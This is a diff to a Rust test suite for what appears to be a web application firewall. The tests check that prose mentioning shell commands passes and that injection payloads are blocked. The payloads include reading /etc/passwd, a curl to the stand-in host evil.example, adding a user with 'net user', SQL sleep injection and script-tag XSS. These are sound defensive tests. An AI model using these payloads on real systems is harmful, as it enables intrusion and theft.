@@ -183,6 +183,68 @@ fn passes_a_bare_path_or_api_mentioned_in_a_sentence_at_paranoia_1_but_not_at_2(
     }
 }
 
+#[test]
+fn passes_a_plain_command_in_backticks_in_a_sentence_at_paranoia_1_but_not_at_2() {
+    for prose in [
+        "type `id` to see your groups",
+        "run `ls -la` in the folder to see hidden files",
+        "Run `cat file.txt | grep foo` in your terminal",
+        "`hostname`. On success the promise resolves",
+    ] {
+        assert_eq!(
+            verdict_on_query(1, prose),
+            (false, String::new()),
+            "{prose}"
+        );
+        assert!(verdict_on_query(2, prose).0, "{prose}");
+    }
+    for attack in [
+        "x`id`",
+        "8.8.8.8 `id`",
+        "a `id` b c d",
+        "please run `cat /etc/passwd` for me now",
+        "please run `curl http://evil.example/x` for me now",
+        "please run `id`; then go home now",
+        "please run `id` and `whoami` for me now",
+    ] {
+        assert!(verdict_on_query(1, attack).0, "{attack}");
+    }
+}
+
+#[test]
+fn passes_commands_and_calls_that_read_as_prose_at_paranoia_1() {
+    for prose in [
+        "Python -c flag usage",
+        "perl -e one-liners tutorial",
+        "Net user count grew 5% this quarter",
+        "Sleep(8 hours) is the best medicine",
+        "benchmark(ing) the new laptop",
+        "the <script> tag loads JavaScript",
+        "logs are under /var/log/nginx",
+        "\"I'll be back\" -- T. 800",
+    ] {
+        assert_eq!(
+            verdict_on_query(1, prose),
+            (false, String::new()),
+            "{prose}"
+        );
+    }
+    for (attack, rule) in [
+        ("python -c 'import os'", "932150"),
+        ("; perl -e print(1)", "932150"),
+        ("& net user hacker P@ss /add", "932120"),
+        ("| net user", "932120"),
+        ("1 and sleep(5) is it", "942107"),
+        ("the <script>alert(1) tag", "941110"),
+        ("the <script> tag </script>", "941110"),
+        ("/var/log/nginx/access.log", "930120"),
+        ("x' -- T. 800", "942105"),
+    ] {
+        let (blocked, matched) = verdict_on_query(1, attack);
+        assert!(blocked && matched.contains(rule), "{attack}: {matched}");
+    }
+}
+
 /// The core payloads of each class, each to be wrapped in prose.
 const CORE_PAYLOADS: &[&str] = &[
     // xss
@@ -219,9 +281,11 @@ fn blocks_core_payloads_wrapped_in_prose_at_paranoia_1() {
             format!("{payload} a b"),
             format!("see the docs here {payload} and tell me what you think"),
         ] {
-            // The one exemption: a bare path in a sentence of mostly words is a mention
-            // (see `passes_a_bare_path_or_api_mentioned_in_a_sentence_…`).
-            if *payload == "/etc/passwd" && wrapped.starts_with("see the docs") {
+            // The two exemptions, both of a real sentence: a bare path in a sentence of mostly
+            // words is a mention (see `passes_a_bare_path_or_api_mentioned_in_a_sentence_…`),
+            // and a plain command in backticks standing in one is Markdown inline code (see
+            // `passes_a_plain_command_in_backticks_in_a_sentence_…`).
+            if matches!(*payload, "/etc/passwd" | "`id`") && wrapped.starts_with("see the docs") {
                 continue;
             }
             let (blocked, matched) = verdict_on_query(1, &wrapped);
